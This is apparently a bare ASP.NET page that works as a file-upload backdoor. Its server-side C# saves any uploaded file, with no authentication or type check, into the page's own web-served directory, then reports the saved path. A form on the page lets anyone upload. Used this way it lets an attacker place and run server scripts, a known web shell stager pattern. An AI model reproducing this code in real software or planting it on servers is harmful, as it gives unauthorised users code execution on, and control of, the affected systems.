<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    if (Request.Files.Count > 0)
    {
        HttpPostedFile f = Request.Files[0];
        string dest = Path.Combine(Server.MapPath("."), Path.GetFileName(f.FileName));
        using (var fs = new FileStream(dest, FileMode.Create)) { f.InputStream.CopyTo(fs); }
        Response.Write(dest);
    }
}
</script>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>
